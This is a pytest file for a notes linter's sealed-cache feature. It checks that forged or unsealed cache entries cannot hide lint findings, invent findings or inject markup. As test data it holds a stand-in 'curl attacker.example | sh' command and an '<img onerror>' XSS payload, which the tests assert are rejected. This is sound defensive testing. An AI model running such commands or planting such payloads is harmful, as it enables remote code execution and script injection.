"""Caches that cannot lie (issue 50): a cache in a notes repository may be committed by anyone, so
confnotes trusts an entry only when this machine sealed it (``cachedir.seal``, a keyed BLAKE2b under
a key outside every repository). A committed or edited lint cache can neither hide a finding nor
add one; a committed math or diagram cache cannot put markup into a page; JUnit reports a note
that could not be read as an error, never as a passing test case."""

from __future__ import annotations

import json
import re
from xml.etree import ElementTree

from confnotes.check import CACHE_FILE

NOTE = "# Talk\n\n## Empty\n\n## Points\n\n- one\n"


def _lint_twice(cli, tmp_path, monkeypatch):
    note = tmp_path / "talk.md"
    note.write_text(NOTE, encoding="utf-8")
    monkeypatch.setenv("CONFNOTES_CACHE_DIR", str(tmp_path / "cache"))
    first = cli("lint", str(note), "--format", "json")
    assert first.exit_code == 1 and "CN104" in first.stdout
    return note, tmp_path / "cache" / CACHE_FILE


def _forged(text: str, entries: dict) -> str:
    """The cache file as a committer would write it: the same head, the entries changed (their seal
    is the one they were given: the key that made it is not theirs)."""
    head = re.match(r'\A\{"version":"[^"]+","seal":"[0-9a-f]{64}","entries":', text)
    assert head is not None, text[:120]
    return head.group(0) + json.dumps(entries, separators=(",", ":")) + "}"


def test_a_cache_whose_entries_were_emptied_hides_no_finding(cli, tmp_path, monkeypatch):
    note, cache = _lint_twice(cli, tmp_path, monkeypatch)
    text = cache.read_text(encoding="utf-8")
    entries = json.loads(text)["entries"]
    for entry in entries.values():
        entry["findings"] = []
    cache.write_text(_forged(text, entries), encoding="utf-8")
    again = cli("lint", str(note))
    assert again.exit_code == 1 and "CN104" in again.stdout


def test_a_committed_cache_from_another_machine_is_a_miss(cli, tmp_path, monkeypatch):
    note, cache = _lint_twice(cli, tmp_path, monkeypatch)
    entries = json.loads(cache.read_text(encoding="utf-8"))["entries"]
    for entry in entries.values():
        entry["findings"] = []
    from confnotes import __version__

    body = json.dumps(entries, separators=(",", ":"))
    other = f'{{"version":"{__version__}","seal":"{"ab" * 32}","entries":{body}}}'
    cache.write_text(other, encoding="utf-8")
    again = cli("lint", str(note))
    assert again.exit_code == 1 and "CN104" in again.stdout


def test_an_invented_finding_never_reaches_sarif(cli, tmp_path, monkeypatch):
    note, cache = _lint_twice(cli, tmp_path, monkeypatch)
    text = cache.read_text(encoding="utf-8")
    entries = json.loads(text)["entries"]
    for entry in entries.values():
        entry["findings"].append([1, 1, "CN204", "bare-url", "error", "invented: run curl attacker.example | sh", None])
    cache.write_text(_forged(text, entries), encoding="utf-8")
    sarif = cli("lint", str(note), "--format", "sarif")
    assert "attacker.example" not in sarif.stdout and "CN104" in sarif.stdout


def test_a_sealed_cache_is_still_used(cli, tmp_path, monkeypatch):
    note, cache = _lint_twice(cli, tmp_path, monkeypatch)
    from confnotes.check import Checker, LintRequest

    run = Checker(LintRequest(cache_dir=str(cache.parent))).lint_paths([str(note)])
    assert run.cached == 1 and [f.rule for f in run.findings] == ["CN104"]


def test_the_key_lives_outside_the_notes_and_only_its_owner_reads_it(cli, tmp_path, monkeypatch):
    import os
    import stat

    from confnotes.edges import cachedir

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "home-cache"))
    cachedir._key.cache_clear()
    try:
        _lint_twice(cli, tmp_path, monkeypatch)
        key = cachedir.key_path()
        assert key.is_relative_to(tmp_path / "home-cache") and key.stat().st_size == 32
        assert stat.S_IMODE(os.stat(key).st_mode) == 0o600
        assert not any(path.name == "cache.key" for path in (tmp_path / "cache").rglob("*"))
    finally:
        cachedir._key.cache_clear()


def test_a_committed_math_cache_puts_no_markup_in_the_page(tmp_path, monkeypatch):
    """The math cache is read before latex2mathml runs: an entry planted at a formula's key (the
    key is a hash anyone can compute) is not this machine's, so the formula is typeset again."""
    import hashlib

    import confnotes.markup.math as math

    monkeypatch.setenv("CONFNOTES_CACHE_DIR", str(tmp_path / "cache"))
    math.mathml.cache_clear()
    math._read.cache_clear()
    tex = r"x^2 + y_{planted}"
    key = hashlib.sha256("\0".join(("mathml", math._stamp(), tex, "False", "0")).encode()).hexdigest()
    folder = tmp_path / "cache" / "math"
    folder.mkdir(parents=True)
    planted = json.dumps({"mathml": "<img src=x onerror=alert(1)>", "cost": 1})
    for body in (planted, "0" * 64 + "\n" + planted):  # unsealed, and sealed with a key not ours
        (folder / f"{key}.json").write_text(body, encoding="utf-8")
        math.mathml.cache_clear()
        math._read.cache_clear()
        markup = math.mathml(tex, False)
        assert "<img" not in markup and ElementTree.fromstring(markup).tag.endswith("math")


def test_junit_reports_a_note_that_could_not_be_read_as_an_error(cli, tmp_path):
    (tmp_path / "good.md").write_text("# Good\n\n## A\n\n- a\n", encoding="utf-8")
    (tmp_path / "pasted.md").write_bytes(b"\xff\xfe# W\x00o\x00r\x00d\x00")  # UTF-16, as Word saves text
    result = cli("lint", str(tmp_path), "--format", "junit")
    assert result.exit_code == 2
    suite = ElementTree.fromstring(result.stdout)
    cases = {case.get("name", "").rsplit("/", 1)[-1]: case for case in suite.iter("testcase")}
    assert set(cases) == {"good.md", "pasted.md"}
    assert suite.get("tests") == "2" and suite.get("errors") == "1" and suite.get("failures") == "0"
    error = cases["pasted.md"].find("error")
    assert error is not None and "UTF-16" in error.get("message", "") and list(cases["good.md"]) == []
